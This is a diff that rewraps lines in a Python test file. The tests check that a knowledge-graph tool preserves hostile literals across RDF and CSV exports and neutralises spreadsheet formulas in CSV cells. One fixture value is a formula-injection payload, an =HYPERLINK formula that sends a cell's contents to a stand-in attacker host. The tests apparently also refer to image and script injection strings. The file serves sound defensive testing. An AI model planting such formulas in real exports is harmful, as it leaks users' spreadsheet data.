@@ -84,9 +84,13 @@ def test_turtle_parses_back_with_the_literals_intact(hostile: Path) -> None:
     sentences = {s.text for s in read.read_text(HOSTILE).sentences}
     assert f"工业和信息化部党组书记、部长李明出席会议,并作了题为“{IMG}{SCRIPT}”的讲话。" in sentences & values
     assert f"{IMG}{SCRIPT}" in values  # the speech title, exactly
-    assert '=HYPERLINK("http://evil.example/?x="&A1,"点击")会议指出,今年规模以上工业增加值增长6%左右。' in values
+    assert (
+        '=HYPERLINK("http://evil.example/?x="&A1,"点击")会议指出,今年规模以上工业增加值增长6%左右。' in values
+    )
     assert {"李明", "王强", "张伟"} <= values
-    assert not [v for v in values if any(unicodedata.category(ch) in ("Cf", "Cc") for ch in v.replace("\n", ""))]
+    assert not [
+        v for v in values if any(unicodedata.category(ch) in ("Cf", "Cc") for ch in v.replace("\n", ""))
+    ]
 
 
 def test_trig_and_json_ld_carry_the_same_literals(hostile: Path) -> None:
@@ -113,18 +117,26 @@ def test_csv_parses_back_to_the_query_answers(hostile: Path) -> None:
     for name in CONTRACT:
         answers = json.loads(query(hostile / "kg.ttl", name, "json"))
         variables = answers["head"]["vars"]
-        expected = [[row.get(v, {}).get("value", "") for v in variables] for row in answers["results"]["bindings"]]
+        expected = [
+            [row.get(v, {}).get("value", "") for v in variables] for row in answers["results"]["bindings"]
+        ]
         rows = list(csv.reader(io.StringIO(query(hostile / "kg.ttl", name, "csv"))))
         assert rows[0] == variables
         assert sorted([unguarded(cell) for cell in row] for row in rows[1:]) == sorted(expected), name
 
 
 def test_csv_cells_cannot_start_a_formula(hostile: Path) -> None:
-    cells = [cell for name in CONTRACT
-             for row in csv.reader(io.StringIO(query(hostile / "kg.ttl", name, "csv"))) for cell in row]
+    cells = [
+        cell
+        for name in CONTRACT
+        for row in csv.reader(io.StringIO(query(hostile / "kg.ttl", name, "csv")))
+        for cell in row
+    ]
     assert any(cell.lstrip("'").startswith("=HYPERLINK") for cell in cells)  # the formula text is there …
     number = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")  # a plain number is not a formula
-    assert [c for c in cells if c.startswith(FORMULA_START) and not number.fullmatch(c)] == []  # … never as one
+    assert [
+        c for c in cells if c.startswith(FORMULA_START) and not number.fullmatch(c)
+    ] == []  # … never as one
 
 
 def test_terminal_output_has_no_escape_sequences(hostile: Path) -> None:
